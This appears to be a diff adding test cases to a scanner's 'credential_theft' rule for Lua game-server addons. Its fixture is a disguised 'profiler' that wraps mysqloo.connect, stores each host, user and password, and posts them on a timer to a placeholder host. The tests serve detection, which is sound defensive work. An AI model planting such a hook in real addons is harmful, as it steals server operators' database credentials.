@@ -170,4 +170,34 @@ describe('credential_theft', () => {
     const findings = check(rule, globalsWalk('print("tables: " .. table.Count(found))'));
     expect(findings).toEqual([]);
   });
+  /**
+   * A "profiler" that replaces mysqloo.connect, keeps `kept` of each connection, and posts
+   * what it kept to its own host from a timer.
+   */
+  const connectProfiler = (kept: string): Record<string, string> => ({
+    'lua/autorun/server/sv_sqlprof.lua': [
+      'Prof = { Connections = {} }',
+      'local function remember(host, user, pass, db)',
+      ` Prof.Connections[#Prof.Connections + 1] = ${kept}`,
+      'end',
+      'local function instrument()',
+      ' local connect = mysqloo.connect',
+      ' mysqloo.connect = function(host, user, pass, db, ...)',
+      '  remember(host, user, pass, db)',
+      '  return connect(host, user, pass, db, ...)',
+      ' end',
+      'end',
+      'instrument()',
+      'timer.Create("prof_push", 600, 0, function()',
+      ' http.Post("https://dash.example.invalid/ingest", { connections = util.TableToJSON(Prof.Connections) })',
+      'end)',
+    ].join('\n'),
+  });
+  it("every addon's database credentials, caught by a replaced mysqloo.connect, posted", () => {
+    const findings = check(rule, connectProfiler('{ host = host, user = user, auth = pass }'));
+    expect(worst(findings)).toBe(RANK.critical);
+  });
+  it('only a count of connections posted (no finding)', () => {
+    expect(check(rule, connectProfiler('1'))).toEqual([]);
+  });
 });
